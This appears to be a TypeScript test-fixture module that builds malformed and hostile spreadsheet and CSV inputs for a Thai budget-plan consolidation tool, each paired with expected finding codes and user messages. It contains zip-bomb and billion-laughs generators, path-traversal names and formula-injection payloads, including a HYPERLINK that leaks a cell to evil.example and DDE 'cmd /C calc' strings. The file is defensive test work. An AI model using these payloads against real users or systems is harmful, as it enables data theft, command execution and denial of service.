/**
 * Every kind of bad, strange or malicious input the tools are tested against, written once: how
 * each is made (by code, into a folder), the finding codes it must give, and what the user sees.
 * The hostile suite (hostile.test.ts) runs them all through `sujarit consolidate`; the README's
 * "Bad and hostile input" table is generated from this list (readme.ts).
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { a1, type CellValue } from '../../core/grid';
import { cellXml, council, csvText, firstItemRow, fullName, handXlsx, MAIN_NS, metadataOf, plan, utf16le, windows874 } from './build';
import { compoundFile, junk } from '../helpers/bytes';

export interface Corpus {
  /** The inbox folder the kinds write into. */
  dir: string;
  /** Writes a file (relative to dir), creating folders. */
  put(rel: string, data: Uint8Array | string): string;
}

/** What the reader must be able to do for a kind's finding (an xlsx reader change that may not have landed). */

export interface HostileKind {
  id: string;
  /** The kind, as the issue names it. */
  name: string;
  /** How the input is made (README). */
  made: string;
  /** The inputs it writes, relative to the inbox (the first is the one the findings are checked on). */
  files: string[];
  /** Finding codes the file must get (each at least once). Empty: it must be read cleanly. */
  codes: string[];
  /** The cell the first code's finding names, where it applies. */
  cell?: string;
  /** A phrase the first code's Thai message contains (ties the README's words to what is shown). */
  phrase?: string;
  /** What the analyst sees, in Thai (README). */
  sees: string;
  /** The file's status in summary.json's list of sources. */
  status?: 'accepted' | 'rejected';
  /** Not run in the batch (the suite tests it on its own). */
  alone?: boolean;
  make(c: Corpus): void;
}

const MB = 1024 * 1024;

/** A valid plan workbook of council i (its rows changed by `edit`). */
function planBook(i: number, edit?: (rows: CellValue[][]) => void, extra: Partial<Parameters<typeof handXlsx>[0]> = {}): Uint8Array {
  const rows = plan(council(i));
  edit?.(rows);
  return handXlsx({ sheets: [{ name: 'แผนปฏิบัติการ', rows }], ...extra });
}

/** Rewrites the declared uncompressed size of one entry, in its local header and the central directory. */
function lieAboutSize(zip: Uint8Array, name: string, size: number): Uint8Array {
  const out = zip.slice();
  const dv = new DataView(out.buffer);
  const nameBytes = strToU8(name);
  const nameAt = (at: number): boolean => nameBytes.every((b, i) => out[at + i] === b);
  for (let p = 0; p + 46 < out.length; p++) {
    const sig = dv.getUint32(p, true);
    if (sig === 0x04034b50 && dv.getUint16(p + 26, true) === nameBytes.length && nameAt(p + 30)) dv.setUint32(p + 22, size, true);
    else if (sig === 0x02014b50 && dv.getUint16(p + 28, true) === nameBytes.length && nameAt(p + 46)) dv.setUint32(p + 24, size, true);
  }
  return out;
}

/** A worksheet part of `bytes` of padding: valid XML that a zip squeezes a thousand to one. */
function paddedSheet(bytes: number): Uint8Array {
  const head = strToU8(`<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${MAIN_NS}"><sheetData>`);
  const tail = strToU8('</sheetData></worksheet>');
  const out = new Uint8Array(bytes).fill(0x20);
  out.set(head, 0);
  out.set(tail, bytes - tail.length);
  return out;
}

const BOMB_ENTRY = 'xl/worksheets/sheet1.xml';

let bombCache: Uint8Array | null = null;

/** A plan workbook whose sheet part is 64 MB of blanks (made once: deflating it takes a second). */
function bomb(): Uint8Array {
  bombCache ??= zipSync({ ...unzipSync(planBook(1)), [BOMB_ENTRY]: paddedSheet(64 * MB) }, { level: 1 });
  return bombCache;
}

export const KINDS: HostileKind[] = [
  {
    id: 'truncated-zip',
    name: 'Truncated zip',
    made: 'a valid plan workbook cut to a third of its bytes (an upload cut short)',
    files: ['ตัดขาด.xlsx'],
    codes: ['unreadable-file'],
    phrase: 'ไฟล์ไม่สมบูรณ์หรือเสียหาย',
    sees: 'เปิดไฟล์ไม่ได้: ไฟล์ไม่สมบูรณ์หรือเสียหาย (อาจดาวน์โหลดหรือคัดลอกมาไม่ครบ) ให้เปิดใน Excel แล้วบันทึกใหม่',
    status: 'rejected',
    make: (c) => {
      const whole = planBook(0);
      c.put('ตัดขาด.xlsx', whole.subarray(0, Math.floor(whole.length / 3)));
    },
  },
  {
    id: 'not-a-zip',
    name: 'Not a zip but named .xlsx',
    made: '4 KB of random bytes named .xlsx',
    files: ['not-a-zip.xlsx'],
    codes: ['unreadable-file'],
    phrase: 'แต่เนื้อในไม่ใช่ไฟล์ Excel',
    sees: 'เปิดไฟล์ไม่ได้: ไฟล์นี้มีนามสกุล .xlsx แต่เนื้อในไม่ใช่ไฟล์ Excel (อาจเปลี่ยนชื่อมาจากไฟล์ชนิดอื่นหรือเสียหาย)',
    status: 'rejected',
    make: (c) => void c.put('not-a-zip.xlsx', junk(4096, 11)),
  },
  {
    id: 'zero-bytes',
    name: 'A file of 0 bytes',
    made: 'an empty file named .xlsx',
    files: ['ว่าง0ไบต์.xlsx'],
    codes: ['unreadable-file'],
    phrase: 'ไฟล์ว่างเปล่า',
    sees: 'เปิดไฟล์ไม่ได้: ไฟล์ว่างเปล่า (0 ไบต์)',
    status: 'rejected',
    make: (c) => void c.put('ว่าง0ไบต์.xlsx', new Uint8Array(0)),
  },
  {
    id: 'xls-renamed',
    name: '.xls renamed .xlsx',
    made: 'an OLE compound file (Excel 97-2003) with a damaged Workbook stream, named .xlsx',
    files: ['รุ่นเก่า.xlsx'],
    codes: ['unreadable-file'],
    sees: 'ไฟล์ .xls ที่ใช้ได้จะถูกแปลงผ่าน LibreOffice แล้วอ่านตามปกติ; ไฟล์นี้เสียหาย: เปิดไฟล์ไม่ได้ ให้เปิดใน Excel แล้วบันทึกเป็น Excel Workbook (.xlsx)',
    status: 'rejected',
    make: (c) => void c.put('รุ่นเก่า.xlsx', compoundFile([{ name: 'Workbook', data: junk(5000, 5) }])),
  },
  {
    id: 'encrypted',
    name: 'An encrypted workbook',
    made: 'an OLE compound file holding EncryptionInfo and EncryptedPackage, as Excel saves a workbook with a password',
    files: ['มีรหัสผ่าน.xlsx'],
    codes: ['unreadable-file'],
    phrase: 'รหัสผ่าน',
    sees: 'เปิดไฟล์ไม่ได้: ไฟล์นี้มีรหัสผ่าน กรุณาเอารหัสผ่านออก (ไฟล์ > ข้อมูล > ป้องกันเวิร์กบุ๊ก) แล้วบันทึกเป็น .xlsx',
    status: 'rejected',
    make: (c) =>
      void c.put(
        'มีรหัสผ่าน.xlsx',
        compoundFile([
          { name: 'EncryptionInfo', data: Uint8Array.from([4, 0, 4, 0, 0x40, 0, 0, 0, ...junk(200, 1)]) },
          { name: 'EncryptedPackage', data: junk(6000, 2) },
        ]),
      ),
  },
  {
    id: 'zip-bomb',
    name: 'A zip bomb (small file, huge expansion)',
    made: 'a workbook whose sheet part is 64 MB of blanks deflated to 64 KB (1,000 : 1)',
    files: ['zip-bomb.xlsx'],
    codes: ['unreadable-file'],
    phrase: 'อาจเป็น zip bomb',
    sees: 'เปิดไฟล์ไม่ได้: ไฟล์มีอัตราการบีบอัดสูงผิดปกติ (อาจเป็น zip bomb) จึงไม่อ่านไฟล์นี้ — ตรวจจากส่วนหัวก่อนคลายไฟล์ หน่วยความจำไม่เพิ่ม',
    status: 'rejected',
    make: (c) => void c.put('zip-bomb.xlsx', bomb()),
  },
  {
    id: 'zip-bomb-lying',
    name: 'A zip bomb that lies about its size',
    made: 'the same 64 MB part, its headers claiming 900 KB (under the ratio check)',
    files: ['zip-bomb-lying.xlsx'],
    codes: ['unreadable-file'],
    phrase: 'ขยายตัวเกินขนาดที่ระบุไว้ในไฟล์',
    sees: 'เปิดไฟล์ไม่ได้: ไฟล์ขยายตัวเกินขนาดที่ระบุไว้ในไฟล์ (อาจเป็น zip bomb) — การคลายไฟล์หยุดทันทีที่เกินขนาดที่ระบุ',
    status: 'rejected',
    make: (c) => void c.put('zip-bomb-lying.xlsx', lieAboutSize(bomb(), BOMB_ENTRY, 900 * 1024)),
  },
  {
    id: 'many-entries',
    name: 'Tens of thousands of zip entries',
    made: 'a plan workbook plus 20,000 empty parts',
    files: ['ส่วนประกอบมาก.xlsx'],
    codes: ['unreadable-file'],
    phrase: 'ไฟล์มีส่วนประกอบมากเกินไป',
    sees: 'เปิดไฟล์ไม่ได้: ไฟล์มีส่วนประกอบมากเกินไป (มีกว่า 20000 ส่วน เกินกำหนด 10000 ส่วน) จึงไม่อ่านไฟล์นี้ — ตรวจก่อนคลายไฟล์',
    status: 'rejected',
    make: (c) => {
      const files = unzipSyncAll(planBook(3));
      for (let i = 0; i < 20_000; i++) files[`xl/media/x${i}.bin`] = new Uint8Array(0);
      c.put('ส่วนประกอบมาก.xlsx', zipSync(files, { level: 0 }));
    },
  },
  {
    id: 'million-rows',
    name: 'A 1,048,576-row sheet',
    made: 'a plan with one more cell at A1048576, Excel\'s last row (a few KB of XML)',
    files: ['ล้านแถว.xlsx'],
    codes: ['unreadable-file'],
    cell: 'A1048576',
    phrase: 'A1048576',
    sees: 'เปิดไฟล์ไม่ได้: แผ่นงาน "แผนปฏิบัติการ" มีข้อมูลที่เซลล์ A1048576 ซึ่งเกินขอบเขตที่อ่านได้ (100,000 แถว) ให้ลบข้อมูลที่อยู่นอกตารางแล้วบันทึกใหม่',
    status: 'rejected',
    make: (c) => {
      const rows = plan(council(4));
      c.put('ล้านแถว.xlsx', handXlsx({ sheets: [{ name: 'แผนปฏิบัติการ', rows, extraRows: `<row r="1048576">${cellXml(1048575, 0, 'ท้ายสุด')}</row>` }] }));
    },
  },
  {
    id: 'columns-16384',
    name: '16,384 columns',
    made: 'a plan whose header row runs on to XFD, Excel\'s last column, with a heading in every cell',
    files: ['16384คอลัมน์.xlsx'],
    codes: ['column-unrecognised', 'too-many-findings'],
    cell: 'J4',
    sees: 'แผนอ่านได้; คอลัมน์ที่ไม่รู้จัก (column-unrecognised) แสดง 500 รายการแรก แล้วสรุปว่ามีอีก 15,875 รายการ (too-many-findings) ไม่ท่วมรายงาน',
    status: 'accepted',
    make: (c) => {
      const rows = plan(council(5));
      const header = rows[3];
      for (let col = header.length; col < 16384; col++) header[col] = `คอลัมน์ ${col + 1}`;
      c.put('16384คอลัมน์.xlsx', handXlsx({ sheets: [{ name: 'แผนปฏิบัติการ', rows }] }));
    },
  },
  {
    id: 'grid-too-large',
    name: 'A sheet too large to hold (16,384 columns × 700 rows)',
    made: 'cells at A and XFD on each of 700 rows: 50 KB of XML that would make 11.5 million cells',
    files: ['ตารางใหญ่เกิน.xlsx'],
    codes: ['unreadable-file'],
    phrase: 'ซึ่งเกินขอบเขตที่อ่านได้',
    sees: 'เปิดไฟล์ไม่ได้: แผ่นงานมีข้อมูลที่เซลล์ XFD… ซึ่งเกินขอบเขตที่อ่านได้ (รวม 10,000,000 เซลล์) ให้ลบข้อมูลที่อยู่นอกตาราง',
    status: 'rejected',
    make: (c) => {
      let xml = '';
      for (let r = 0; r < 700; r++) xml += `<row r="${r + 1}">${cellXml(r, 0, 'ก')}${cellXml(r, 16383, 'ข')}</row>`;
      c.put('ตารางใหญ่เกิน.xlsx', handXlsx({ sheets: [{ name: 'แผ่นที่ 1', sheetData: xml }] }));
    },
  },
  {
    id: 'long-strings',
    name: 'Very long strings',
    made: 'a plan whose first item title is 200,000 characters long (Excel keeps 32,767)',
    files: ['ข้อความยาว.xlsx'],
    codes: ['text-too-long'],
    cell: 'C6',
    phrase: 'เกินที่ Excel เก็บได้ในหนึ่งช่อง',
    sees: 'แผนอ่านได้; คำเตือนที่ช่อง C6: ข้อความยาวกว่า 200,000 ตัวอักษร เกินที่ Excel เก็บได้ในหนึ่งช่อง (32,767) จึงอ่านเพียง 32,767 ตัวอักษรแรก',
    status: 'accepted',
    make: (c) =>
      void c.put(
        'ข้อความยาว.xlsx',
        planBook(6, (rows) => {
          const r = firstItemRow(rows);
          rows[r][2] = `${rows[r][2]} ${'ก'.repeat(200_000)}`;
        }),
      ),
  },
  {
    id: 'deep-xml',
    name: 'Deeply nested XML',
    made: 'a cell holding 200,000 nested <r> elements (a parser that recurses runs out of stack; one that keeps a stack of tags runs out of memory)',
    files: ['xml-ซ้อนลึก.xlsx'],
    codes: ['unreadable-file'],
    phrase: 'ซ้อนกันลึก',
    sees: 'เปิดไฟล์ไม่ได้: ข้อมูลในส่วน xl/worksheets/sheet1.xml ซ้อนกันลึกเกินกว่าที่ไฟล์ Excel มี (อาจถูกดัดแปลง) จึงไม่อ่านไฟล์นี้',
    status: 'rejected',
    make: (c) => {
      const rows = plan(council(7));
      const depth = 200_000;
      const deep = `<row r="60"><c r="A60" t="inlineStr"><is>${'<r>'.repeat(depth)}<t>ลึก</t>${'</r>'.repeat(depth)}</is></c></row>`;
      c.put('xml-ซ้อนลึก.xlsx', handXlsx({ sheets: [{ name: 'แผนปฏิบัติการ', rows, extraRows: deep }], level: 0 }));
    },
  },
  {
    id: 'doctype-entities',
    name: 'XML with a DOCTYPE and entities',
    made: 'a sheet part declaring nested entities ("billion laughs")',
    files: ['doctype.xlsx'],
    codes: ['unreadable-file'],
    phrase: 'DOCTYPE',
    sees: 'เปิดไฟล์ไม่ได้: ส่วน xl/worksheets/sheet1.xml ของไฟล์มีการประกาศ DOCTYPE/ENTITY ซึ่งไฟล์ Excel ไม่มี (อาจเป็นไฟล์ที่ถูกดัดแปลง)',
    status: 'rejected',
    make: (c) => {
      const laughs = '<!DOCTYPE worksheet [<!ENTITY a "ฮาฮาฮาฮาฮา"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>';
      const rows = plan(council(8));
      c.put('doctype.xlsx', handXlsx({ sheets: [{ name: 'แผนปฏิบัติการ', rows, prolog: laughs, extraRows: '<row r="70"><c r="A70" t="inlineStr"><is><t>&c;</t></is></c></row>' }] }));
    },
  },
  {
    id: 'shared-string-out-of-range',
    name: 'A shared-string index out of range',
    made: 'a plan whose text is in the shared-string table, one item title pointing at entry 99,999 of a table of a few hundred',
    files: ['ข้อความหาย.xlsx'],
    codes: ['damaged-cell'],
    cell: 'C6',
    phrase: 'ซึ่งไม่มีอยู่ในไฟล์',
    sees: 'ข้อผิดพลาดที่ช่อง C6: ช่องนี้อ้างถึงข้อความลำดับที่ 99999 ซึ่งไม่มีอยู่ในไฟล์ (ไฟล์เสียหาย) ค่าในช่องนี้จึงหายไป',
    status: 'accepted',
    make: (c) => {
      const rows = plan(council(9));
      const sst: string[] = [];
      const index = new Map<string, number>();
      const first = firstItemRow(rows);
      const cell = (r: number, col: number, v: CellValue): string | undefined => {
        if (typeof v !== 'string') return undefined;
        const ref = a1(r, col);
        if (r === first && col === 2) return `<c r="${ref}" t="s"><v>99999</v></c>`;
        if (!index.has(v)) index.set(v, sst.push(v) - 1);
        return `<c r="${ref}" t="s"><v>${index.get(v)}</v></c>`;
      };
      const sheet = { name: 'แผนปฏิบัติการ', rows, cell };
      // Render once to fill the table, then build the package with it.
      handXlsx({ sheets: [sheet] });
      c.put('ข้อความหาย.xlsx', handXlsx({ sheets: [sheet], sst }));
    },
  },
  {
    id: 'formula-errors',
    name: 'Formulas with cached #REF! and #DIV/0!',
    made: 'two budget cells holding formulas whose saved results are #REF! and #DIV/0!',
    files: ['สูตรผิด.xlsx'],
    codes: ['formula-error', 'invalid-amount'],
    cell: 'D6',
    phrase: 'สูตรอ้างถึงช่องหรือแผ่นงานที่ถูกลบไปแล้ว',
    sees: 'ข้อผิดพลาดที่ช่อง D6: ช่องนี้แสดงค่าผิดพลาดของสูตร #REF! (สูตรอ้างถึงช่องหรือแผ่นงานที่ถูกลบไปแล้ว) และที่ E6: #DIV/0! (สูตรหารด้วยศูนย์) ไม่นับเป็นจำนวนเงิน',
    status: 'accepted',
    make: (c) => {
      const rows = plan(council(10));
      const r = firstItemRow(rows);
      const cell = (row: number, col: number): string | undefined => {
        if (row !== r) return undefined;
        if (col === 3) return `<c r="D${r + 1}" t="e"><f>SUM(#REF!)</f><v>#REF!</v></c>`;
        if (col === 4) return `<c r="E${r + 1}" t="e"><f>D${r + 1}/0</f><v>#DIV/0!</v></c>`;
        return undefined;
      };
      c.put('สูตรผิด.xlsx', handXlsx({ sheets: [{ name: 'แผนปฏิบัติการ', rows, cell }] }));
    },
  },
  {
    id: 'date-in-amount',
    name: 'Dates where amounts belong',
    made: 'a budget cell holding 1 October 2566 formatted as a date (Excel stores the day number 45200)',
    files: ['วันที่ในช่องเงิน.xlsx'],
    codes: ['date-in-amount'],
    cell: 'D6',
    phrase: 'เป็นวันที่',
    sees: 'ข้อผิดพลาดที่ช่อง D6: งบประมาณของรายการ 1 เป็นวันที่ (2023-10-01) ไม่ใช่จำนวนเงิน จึงไม่นำไปรวมยอด (ไม่นับ 45,200 บาท)',
    status: 'accepted',
    make: (c) => {
      const rows = plan(council(11));
      const r = firstItemRow(rows);
      const cell = (row: number, col: number): string | undefined => (row === r && col === 3 ? `<c r="D${r + 1}" s="1"><v>45200</v></c>` : undefined);
      c.put('วันที่ในช่องเงิน.xlsx', handXlsx({ sheets: [{ name: 'แผนปฏิบัติการ', rows, cell }], xfs: [0, 14] }));
    },
  },
  {
    id: 'date-as-text',
    name: 'Dates typed as text where amounts belong (CSV)',
    made: 'a CSV plan with "1/10/2566" in a budget cell',
    files: ['วันที่เป็นข้อความ.csv'],
    codes: ['invalid-amount'],
    cell: 'D6',
    phrase: 'อ่านเป็นจำนวนเงินไม่ได้',
    sees: 'ข้อผิดพลาดที่ช่อง D6: งบประมาณของรายการ 1 "1/10/2566" อ่านเป็นจำนวนเงินไม่ได้',
    status: 'accepted',
    make: (c) => {
      const rows = plan(council(12));
      rows[firstItemRow(rows)][3] = '1/10/2566';
      c.put('วันที่เป็นข้อความ.csv', `\ufeff${csvText(rows)}`);
    },
  },
  {
    id: 'negative-and-huge',
    name: 'Negative and astronomically large amounts',
    made: 'budgets of -5,000, 10^20 and 1.7 × 10^308 baht (twice: their sum overflows to Infinity)',
    files: ['เงินมหาศาล.xlsx'],
    codes: ['implausible-amount', 'negative-amount'],
    cell: 'D6',
    phrase: 'มากกว่างบประมาณทั้งปีของ อปท. ใด ๆ',
    sees: 'ข้อผิดพลาด: งบประมาณติดลบ; งบประมาณ 100,000,000,000,000,000,000 บาท มากกว่างบประมาณทั้งปีของ อปท. ใด ๆ — ไม่นำไปรวมยอดของจังหวัด',
    status: 'accepted',
    make: (c) =>
      void c.put(
        'เงินมหาศาล.xlsx',
        planBook(13, (rows) => {
          const r = firstItemRow(rows);
          rows[r][3] = 1e20;
          rows[r][4] = 1.7e308;
          rows[r + 1][4] = 1.7e308;
          rows[r + 1][5] = -5000;
        }),
      ),
  },
  {
    id: 'overlapping-merges',
    name: 'Overlapping merged ranges',
    made: 'merges A6:B8 and B7:C9 on the plan sheet (Excel never writes overlapping merges)',
    files: ['ผสานซ้อน.xlsx'],
    codes: ['merge-overlap'],
    cell: 'B7',
    phrase: 'ซ้อนทับกับช่องผสาน',
    sees: 'คำเตือนที่ช่อง B7: ช่องผสาน B7:C9 ซ้อนทับกับช่องผสาน A6:B8 ซึ่ง Excel ไม่ยอมให้มี',
    status: 'accepted',
    make: (c) => {
      const rows = plan(council(14));
      c.put('ผสานซ้อน.xlsx', handXlsx({ sheets: [{ name: 'แผนปฏิบัติการ', rows, merges: ['A6:B8', 'B7:C9'] }] }));
    },
  },
  {
    id: 'empty-workbook',
    name: 'An empty workbook',
    made: 'a workbook with one sheet and no cell',
    files: ['สมุดงานว่าง.xlsx'],
    codes: ['empty-workbook', 'header-not-found'],
    phrase: 'ไฟล์นี้ไม่มีข้อมูลเลย',
    sees: 'ข้อผิดพลาด: ไฟล์นี้ไม่มีข้อมูลเลย (1 แผ่นงานว่าง) อาจส่งไฟล์ผิด และไม่พบตารางแผน',
    status: 'rejected',
    make: (c) => void c.put('สมุดงานว่าง.xlsx', handXlsx({ sheets: [{ name: 'Sheet1', rows: [] }] })),
  },
  {
    id: 'headers-only',
    name: 'A sheet with only headers',
    made: 'the title and the two header rows of the official form, no item',
    files: ['มีแต่หัวตาราง.xlsx'],
    codes: ['no-items'],
    cell: 'A4',
    phrase: 'มีหัวตารางแต่ไม่มีโครงการ',
    sees: 'ข้อผิดพลาดที่ช่อง A4: แผ่นงานมีหัวตารางแต่ไม่มีโครงการ/กิจกรรม/มาตรการใต้หัวตารางเลย กรอกรายการแล้วส่งใหม่',
    status: 'accepted',
    make: (c) => {
      const rows = plan(council(15)).slice(0, 5);
      c.put('มีแต่หัวตาราง.xlsx', handXlsx({ sheets: [{ name: 'แผนปฏิบัติการ', rows }] }));
    },
  },
  {
    id: 'csv-windows-874',
    name: 'CSV in windows-874',
    made: 'a plan saved as CSV by Thai Windows (TIS-620 bytes, no BOM)',
    files: ['ไทยวินโดวส์.csv'],
    codes: [],
    sees: 'อ่านได้ตามปกติ ภาษาไทยถูกต้อง (ไม่มีข้อผิดพลาด: ไฟล์นี้ถูกต้อง)',
    status: 'accepted',
    make: (c) => void c.put('ไทยวินโดวส์.csv', windows874(csvText(plan(council(16))))),
  },
  {
    id: 'csv-utf-16',
    name: 'CSV in UTF-16',
    made: 'a plan as UTF-16LE text with a byte-order mark (Excel\'s "Unicode Text", tab-separated)',
    files: ['ยูนิโค้ด16.csv'],
    codes: [],
    sees: 'อ่านได้ตามปกติ ภาษาไทยถูกต้อง (ไม่มีข้อผิดพลาด: ไฟล์นี้ถูกต้อง)',
    status: 'accepted',
    make: (c) => void c.put('ยูนิโค้ด16.csv', utf16le(csvText(plan(council(17)), '\t'))),
  },
  {
    id: 'csv-utf-16-no-bom',
    name: 'CSV in UTF-16 without a byte-order mark',
    made: 'the same text as UTF-16LE with no byte-order mark (some exporters)',
    files: ['ยูนิโค้ด16ไม่มีBOM.csv'],
    codes: [],
    sees: 'อ่านได้ตามปกติ ภาษาไทยถูกต้อง (รู้จำ UTF-16 จากรูปแบบของไบต์)',
    status: 'accepted',
    make: (c) => void c.put('ยูนิโค้ด16ไม่มีBOM.csv', utf16le(csvText(plan(council(18))), false)),
  },
  {
    id: 'csv-ragged-quotes',
    name: 'CSV with ragged rows and stray quotes',
    made: 'an amount written 10,000 without quotes (the row gets one cell too many) and a title starting with a quote that never closes',
    files: ['แถวไม่เท่ากัน.csv'],
    codes: ['malformed-csv'],
    phrase: 'ที่เปิดแล้วไม่ได้ปิด',
    sees: 'คำเตือน: ช่องนี้มีเครื่องหมายคำพูด (") ที่เปิดแล้วไม่ได้ปิด; แถวที่ 7 มี 10 ช่อง มากกว่าแถวอื่น (9 ช่อง) อาจมีจุลภาคในตัวเลขที่ไม่ได้อยู่ในเครื่องหมายคำพูด',
    status: 'accepted',
    make: (c) => {
      const rows = plan(council(19));
      const r = firstItemRow(rows);
      const lines = csvText(rows).split('\r\n');
      lines[r] = lines[r].replace(/^([^,]*,[^,]*,)/, '$1"');
      lines[r + 1] = lines[r + 1].replace(/^((?:[^,]*,){3})[^,]*/, '$110,000');
      c.put('แถวไม่เท่ากัน.csv', lines.join('\r\n'));
    },
  },
  {
    id: 'formula-injection',
    name: 'Cells starting with = + - @ (formula injection)',
    made: 'item titles =HYPERLINK(…), +cmd|…, -2+3+cmd|…, @SUM(…) and <script>, and the same in the metadata sheet\'s council name',
    files: ['สูตรแฝง.xlsx'],
    codes: ['formula-like-text'],
    cell: 'C6',
    phrase: 'ขึ้นต้นด้วยเครื่องหมายที่โปรแกรมตารางคำนวณจะถือเป็นสูตร',
    sees: 'คำเตือนที่ช่อง C6 และช่องอื่น: ข้อความขึ้นต้นด้วยเครื่องหมายที่จะถือเป็นสูตร (= + - @); ในไฟล์ผลลัพธ์แสดงเป็นข้อความธรรมดา (CSV มี \' นำหน้า)',
    status: 'accepted',
    make: (c) => {
      const rows = plan(council(20));
      const r = firstItemRow(rows);
      INJECTIONS.forEach((text, i) => (rows[r + i][2] = text));
      const meta = { ...metadataOf(council(20)), 'ผู้จัดทำ': '=HYPERLINK("http://evil.example/?"&A1,"คลิก")' };
      c.put('สูตรแฝง.xlsx', handXlsx({ sheets: [{ name: 'แผนปฏิบัติการ', rows }], metadata: meta }));
    },
  },
  {
    id: 'council-name-paths',
    name: 'Council names holding / \\ .. and control characters',
    made: 'a metadata council name "อบต.บางจาก\\..\\..\\etc…/../../x" with BEL, ESC[31m and a right-to-left override, in a file whose own name holds \\, .. and BEL',
    files: ['อบต.ทดสอบ\\..\\..\u0007ชื่อแปลก.xlsx'],
    codes: ['control-characters', 'org-mismatch'],
    phrase: 'อักขระควบคุม',
    sees: 'คำเตือน: ข้อความมีอักขระควบคุม/อักขระที่มองไม่เห็น ซึ่งถูกตัดออก; ชื่อหน่วยงานในแผ่นข้อมูลหน่วยงานไม่ตรงกับหัวเอกสาร; ชื่อไฟล์แสดงเป็น \\x07; ไม่มีไฟล์ใดถูกเขียนนอก --out',
    status: 'accepted',
    make: (c) => {
      const rows = plan(council(21));
      const meta = { ...metadataOf(council(21)), 'ชื่อหน่วยงาน': 'อบต.บางจาก\\..\\..\\etc\u0007\u001b[31m\u202eแดง/../../x' };
      c.put('อบต.ทดสอบ\\..\\..\u0007ชื่อแปลก.xlsx', handXlsx({ sheets: [{ name: 'แผนปฏิบัติการ', rows }], metadata: meta }));
    },
  },
  {
    id: 'duplicate-councils',
    name: 'Duplicate councils',
    made: 'two different plans of the same council, neither numbering its version, the second saved a day later',
    files: ['ซ้ำ-ก.xlsx', 'ซ้ำ-ข.xlsx'],
    codes: ['duplicate-submission'],
    phrase: 'ฉบับเดียวกัน',
    sees: 'คำเตือน: ไฟล์นี้และ ซ้ำ-ข.xlsx เป็นแผนของหน่วยงานเดียวกัน ฉบับเดียวกัน (ไม่ระบุฉบับที่) แต่เนื้อหาต่างกัน ระบบใช้ไฟล์ที่ใหม่กว่าตามเวลาแก้ไขไฟล์; ทั้งสองไฟล์อยู่ในรายการแหล่งข้อมูล',
    make: (c) => {
      const a = c.put('ซ้ำ-ก.xlsx', handXlsx({ sheets: [{ name: 'แผนปฏิบัติการ', rows: plan(council(22), { seed: 5 }) }] }));
      const b = c.put('ซ้ำ-ข.xlsx', handXlsx({ sheets: [{ name: 'แผนปฏิบัติการ', rows: plan(council(22), { seed: 6 }) }] }));
      fs.utimesSync(a, new Date('2024-05-01T08:00:00Z'), new Date('2024-05-01T08:00:00Z'));
      fs.utimesSync(b, new Date('2024-05-02T08:00:00Z'), new Date('2024-05-02T08:00:00Z'));
    },
  },
  {
    id: 'conflicting-metadata',
    name: 'Conflicting metadata',
    made: 'a metadata sheet naming another council and district than the plan\'s title rows',
    files: ['ข้อมูลขัดกัน.xlsx'],
    codes: ['org-mismatch'],
    phrase: 'ไม่ตรงกับหัวเอกสาร',
    sees: 'ข้อผิดพลาด: ชื่อหน่วยงานในแผ่นข้อมูลหน่วยงานไม่ตรงกับหัวเอกสาร; อำเภอในแผ่นข้อมูลหน่วยงานไม่ตรงกับหัวเอกสาร',
    status: 'accepted',
    make: (c) => {
      const meta = { ...metadataOf(council(24)), 'อำเภอ': 'ชะอำ' };
      c.put('ข้อมูลขัดกัน.xlsx', handXlsx({ sheets: [{ name: 'แผนปฏิบัติการ', rows: plan(council(23)) }], metadata: meta }));
    },
  },
  {
    id: 'changes-while-read',
    name: 'A file that changes while it is read',
    made: 'a plan that grows by 4 KB after its bytes are read and before the file is looked at again (a copy still running)',
    files: ['กำลังคัดลอก.xlsx'],
    codes: ['file-changed'],
    phrase: 'ระหว่างที่กำลังอ่าน',
    sees: 'ข้อผิดพลาด: ไฟล์นี้ถูกแก้ไขหรือเขียนทับระหว่างที่กำลังอ่าน (ก่อนอ่าน/หลังอ่าน: ขนาดและเวลา) รอให้คัดลอกเสร็จแล้วรวบรวมใหม่; ค่าที่ตรวจและค่า sha256 มาจากไบต์ชุดเดียวกัน',
    status: 'accepted',
    alone: true,
    make: (c) => void c.put('กำลังคัดลอก.xlsx', planBook(25)),
  },
  {
    id: 'unreadable-folder',
    name: 'An unreadable directory',
    made: 'a folder the user may not list (chmod 000; root may, so also a link that loops back on itself)',
    files: ['วนไม่รู้จบ'],
    codes: ['unreadable-folder'],
    phrase: 'อ่านรายการไฟล์ใน',
    sees: 'ข้อผิดพลาด (ใน findings.csv และ summary.json): อ่านรายการไฟล์ในโฟลเดอร์ไม่ได้ (ไม่มีสิทธิ์เข้าถึง / ลิงก์วนกลับมาที่ตัวเอง) ไฟล์ในโฟลเดอร์นี้จึงไม่ได้ถูกตรวจ',
    make: (c) => {
      const locked = path.join(c.dir, 'ห้ามเข้า');
      fs.mkdirSync(locked, { recursive: true });
      fs.writeFileSync(path.join(locked, 'ซ่อนอยู่.xlsx'), planBook(26));
      fs.chmodSync(locked, 0o000);
      fs.symlinkSync('วนไม่รู้จบ', path.join(c.dir, 'วนไม่รู้จบ'));
    },
  },
];

/** The formula-injection payloads (also checked in every output). */
export const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"คลิกที่นี่")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  ' =1+1 <script>alert(1)</script>',
];

/** Inflates every entry of a package (to rebuild it with a part replaced). */
function unzipSyncAll(bytes: Uint8Array): Record<string, Uint8Array> {
  return unzipSync(bytes);
}

/** Folders the unreadable-folder kind leaves behind, made readable again (so temp folders can be removed). */
export function unlock(dir: string): void {
  const locked = path.join(dir, 'ห้ามเข้า');
  if (fs.existsSync(locked)) fs.chmodSync(locked, 0o755);
}

export { fullName };
